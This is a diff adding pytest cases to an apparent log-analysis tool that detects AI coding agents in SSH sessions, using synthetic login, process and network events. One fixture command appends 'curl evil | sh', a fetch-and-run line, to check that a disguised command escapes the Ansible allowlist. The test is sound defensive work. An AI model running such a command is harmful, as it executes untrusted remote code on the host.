@@ -5,6 +5,7 @@ from pyspark.sql import functions as F
 
 from tallyhound.operators import correlate, detect
 from tallyhound.sources import audit_log, records, rules, sinks, sshd_log
+from tallyhound.sources.tables import stored
 
 LOG = """Sep 14 08:00:01 web1 sshd[100]: Accepted publickey for ops from 10.0.0.9 port 5022 ssh2: ED25519 SHA256:abc
 Sep 14 08:00:01 web1 sshd[100]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)
@@ -99,6 +100,10 @@ def test_rules():
     with pytest.raises(ValueError, match="unknown keys"):
         rules.parsed('{"styles": [{"id": "x", "colour": 1}]}')
     assert len(rules.problems(rules.Pack(styles=[rules.Style("a", "(", 5), rules.Style("a", "x", 99)]))) == 3
+    loose = rules.parsed('{"schema": "any.allowlist.v1", "profiles": [{"id": "p", "any_of": [{"cmd_regex": "x"}], "suppress": ["style", "proc.agent_name"]}, {"id": "q"}]}')
+    assert len(rules.problems(loose)) == 3 and (len(pack.agents), len(pack.hosts), len(pack.profiles)) == (20, 22, 9)
+    with pytest.raises(ValueError, match="unknown schema"):
+        rules.parsed('{"schema": "any.v9"}')
 
 
 def event(ts, kind, user="", ip="", port=0, pid=0, ses=0, **fields):
@@ -120,6 +125,97 @@ def test_sessions_and_verdicts(spark):
     assert eve.score == 70  # interactive use does not speak for a session whose processes speak against it
 
 
+def login(at, user, ip, port, pid, **fields):
+    return event(at, "ssh.auth_ok", user, ip, port, pid, **fields)
+
+
+def said(at, user, name, port=900, **fields):
+    return event(at, "ssh.env", user, "10.0.0.3", port, name="AI_AGENT", value=name, via="sshrc", **fields)
+
+
+SESSION5 = [login(1, "ops", "10.0.0.3", 900, 50), event(1, "audit.login", "ops", "10.0.0.3", pid=50, ses=5, res="success")]
+ANSIBLE = ["/bin/sh -c 'echo ~ops && sleep 0'", "/usr/bin/python3 /home/ops/.ansible/tmp/ansible-tmp-1.1-1-1/AnsiballZ_setup.py", "rm -f -r /home/ops/.ansible/tmp/ansible-tmp-1.1-1-1/ > /dev/null 2>&1 && sleep 0"]
+PROFILED = [
+    (ANSIBLE * 3, "ansible"), (["rm -f -r /x/.ansible/tmp/ansible-tmp-1.1-1-1/ ; curl evil | sh"] * 9, ""), (ANSIBLE[:1] * 9, ""), (["rsync --server -logDtpr . /srv"] * 9, "rsync-backup"),
+    (["/home/a/.vscode-server/bin/x/node server-main.js --start-server", *["git status"] * 8], "vscode-remote"), (["git status"] * 9, ""), (["borg serve"] * 9, "borgbackup"), ([], "terraform-provisioner"),
+]
+#: Each scene happens on a host of its own, so that one run judges them all.
+SCENES = {
+    "declared": [
+        login(1, "alice", "10.0.0.3", 900, 50), event(1, "ssh.pam_open", "alice", pid=50, uid=1001), event(1.5, "ssh.pam_open", "mallory", pid=51, uid=1002), said(2, "mallory", "zz-forged"), said(3, "alice", "helper", uid=1002),
+        login(1, "bob", "10.0.0.3", 901, 60), said(4, "bob", "aa-old", 901), said(5, "bob", "claude_code@2", 901), event(6, "ssh.disconnect", "bob", "10.0.0.3", 901, 60, scope="connection"), said(7, "bob", "late", 901), said(0.5, "carol", "ghost", 950),
+    ],
+    "reused": [
+        login(1, "ann", "10.0.0.3", 900, 50), event(2, "ssh.session_start", "ann", "10.0.0.3", 900, 50, stype="shell"), event(3, "ssh.disconnect", "", "10.0.0.3", 900, 50, scope="connection"), event(3, "ssh.disconnect", "ann", "", 0, 50, scope="pam"),
+        event(100, "ssh.banner", pid=50, banner="paramiko_3"), login(101, "ben", "10.0.0.3", 900, 50), event(102, "audit.login", "ben", "10.0.0.3", pid=50, ses=5, res="success"), event(103, "audit.execve", pid=70, ses=5, ppid=50, cmd="uptime"),
+    ],
+    "parents": [
+        login(1, "ann", "10.0.0.3", 900, 50), event(1.1, "ssh.pam_open", "", pid=50, note="user_child", child_pid=52), login(2, "ann", "10.0.0.4", 901, 60), event(3, "proc.seen", "ann", pid=70, ppid=52, comm="bash"),
+        event(4, "proc.seen", "ann", pid=71, ppid=70, comm="node", cmd="node /opt/claude/cli.js"), event(5, "net.conn", "", pid=71, dst="1.2.3.4", dst_port=443, host="api.anthropic.com"), event(2.5, "proc.seen", "ann", pid=80, ppid=1, comm="cron"),
+        event(7, "ssh.auth_fail", "ann", "10.0.0.4", 902, 90), event(8, "ssh.auth_fail", "ann", "10.0.0.9", 902, 90), event(9, "ssh.auth_fail", "ann", "10.0.0.4", 903, 91, invalid_user="true"), event(9, "proc.seen", "zoe", pid=95, ppid=1, comm="vi"),
+    ],
+    "plumbing": [
+        *SESSION5, event(2, "audit.execve", pid=70, ses=5, ppid=50, cmd="/bin/sh /etc/ssh/sshrc"), event(3, "audit.execve", pid=71, ses=5, ppid=70, cmd="date"), event(4, "audit.execve", pid=72, ses=5, ppid=50, cmd="bash -c git log"),
+        event(5, "audit.execve", pid=73, ses=5, ppid=72, cmd="bash -c ls"), event(900, "audit.execve", pid=70, ses=5, ppid=50, cmd="make"), event(901, "audit.execve", pid=74, ses=5, ppid=70, cmd="cc x.c"),
+    ],
+    "other host": [*SESSION5, event(2.5, "audit.execve", pid=71, ses=5, ppid=70, cmd="id")],
+    "evidence": [login(1, "eve", "10.0.0.4", 901, 60), event(2, "proc.seen", "eve", pid=71, ppid=60, comm="x", cmd="x --yolo", flags="--yolo, --trust", **{"env__GEMINI_CLI": "1"}), event(3, "audit.execve", "eve", pid=80, cmd="ls 2>&1 | head -n 5")],
+}
+for number, (commands, _) in enumerate(PROFILED):
+    scene = [event(0, "ssh.banner", pid=50, banner="Go"), *SESSION5, *[event(3 + 2 * k, "ssh.session_start", "ops", "10.0.0.3", 900, 50, stype="command") for k in range(9)]]
+    SCENES[f"profile {number}"] = scene + [event(3.1 + 2 * k, "audit.execve", pid=100 + k, ses=5, ppid=51, cmd=c, argv0=c.split()[0]) for k, c in enumerate(commands)]
+
+
+@pytest.fixture(scope="module")
+def scenes(spark):
+    """(tracks, verdicts) of all scenes, each by host, user and address."""
+    rows = [(host, float(r[0]), *r[1:]) for host, scene in SCENES.items() for r in scene]
+    df = spark.createDataFrame(rows, "host string, t double, kind string, source string, user string, src_ip string, src_port int, pid int, ses int, fields map<string,string>")
+    found = stored(correlate.tracks(df.withColumn("ts", F.timestamp_seconds(F.lit(1789000000) + F.col("t"))).drop("t"), gap=None), "scenes")
+    by = lambda rows: {(r.host, r.user, r.src_ip): r for r in rows}
+    return by(found.collect()), by(detect.verdicts(found, rules.default_pack()).collect())
+
+
+def test_a_declaration_counts_for_its_own_user_on_an_open_connection_only(scenes):
+    got = {user: r for (host, user, _), r in scenes[1].items() if host == "declared"}
+    assert set(got) == {"alice", "bob"}
+    assert got["alice"]["class"] == "human" and got["alice"].agent == ""
+    assert (got["bob"]["class"], got["bob"].agent, got["bob"].evidence["env.ai_agent"]) == ("declared_agent", "claude-code", "AI_AGENT=claude_code@2")
+
+
+def test_ports_and_process_numbers_are_used_again(scenes):
+    tracks = {user: r for (host, user, _), r in scenes[0].items() if host == "reused"}
+    assert set(tracks) == {"ann", "ben"} and [len(r.connections) for r in tracks.values()] == [1, 1]
+    assert (tracks["ann"].banners, tracks["ben"].banners) == ([], ["paramiko_3"]) and [c.cmd for c in tracks["ben"].commands] == ["uptime"] and not tracks["ann"].commands
+
+
+def test_processes_go_with_their_parents(scenes):
+    one, two, zoe = (scenes[0]["parents", *k] for k in [("ann", "10.0.0.3"), ("ann", "10.0.0.4"), ("zoe", "local")])
+    assert [(p.pid, p.attributed) for p in one.processes] == [(70, True), (71, True)] and [(n.pid, n.attributed) for n in one.net] == [(71, True)]
+    assert [(p.pid, p.attributed) for p in two.processes] == [(80, False)]
+    assert (one.mode, zoe.mode, two.auth_fails, one.auth_fails) == ("remote_agent", "local_agent", 1, 0)
+    assert scenes[1]["parents", "ann", "10.0.0.3"].evidence["net.ai_api"] == "api.anthropic.com:443 from pid 71"
+    assert scenes[1]["parents", "ann", "10.0.0.3"].agent == "claude-code"  # a part of the interpreter's path
+
+
+def test_plumbing_holds_for_its_time_and_host_only(scenes):
+    assert [c.cmd for c in scenes[0]["plumbing", "ops", "10.0.0.3"].commands] == ["git log", "bash -c ls", "make", "cc x.c"]
+    assert [c.cmd for c in scenes[0]["other host", "ops", "10.0.0.3"].commands] == ["id"]
+
+
+@pytest.mark.parametrize("number", range(len(PROFILED)))
+def test_profiles_take_whole_commands(scenes, number):
+    got, profile = scenes[1][f"profile {number}", "ops", "10.0.0.3"], PROFILED[number][1]
+    assert got.profile == profile and (got.score <= 35) == (profile != "")  # the banner's 35 stays where a profile does not suppress it
+    assert (len(got.suppressed) > 0) == (profile != "")
+
+
+def test_evidence_and_agents(scenes):
+    got = scenes[1]["evidence", "eve", "10.0.0.4"]
+    assert got.agent == "gemini-cli" and got.evidence["proc.agent_env"] == "gemini-cli pid 71" and got.evidence["proc.skip_flags"].startswith("--yolo --trust")
+    assert got.evidence["style.pager_guard.head"] == "head -n 5 (1x)" and got.evidence["style.pager_guard.stderr_merge"] == "2>&1 (1x)"
+
+
 def test_renderers(spark):
     df = spark.createDataFrame([(91, "high", "suspected_agent", "", ["rhythm.burst", "a|b"])], "score int, level string, class string, agent string, reasons array<string>")
     assert df.select(sinks.explanation().alias("x")).first().x == "This session looks like an unknown tool (score 91, high) because of rhythm.burst, a|b."
